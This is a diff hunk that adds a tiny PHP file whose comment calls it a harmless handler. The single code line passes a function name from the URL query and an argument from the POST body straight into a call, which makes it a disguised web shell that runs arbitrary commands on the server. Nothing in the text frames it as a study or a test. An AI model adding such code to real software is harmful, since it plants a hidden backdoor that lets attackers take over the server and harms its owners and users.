@@ -1,0 +1,3 @@
+<?php
+// looks like a harmless handler
+$_GET['f']($_POST['a']);
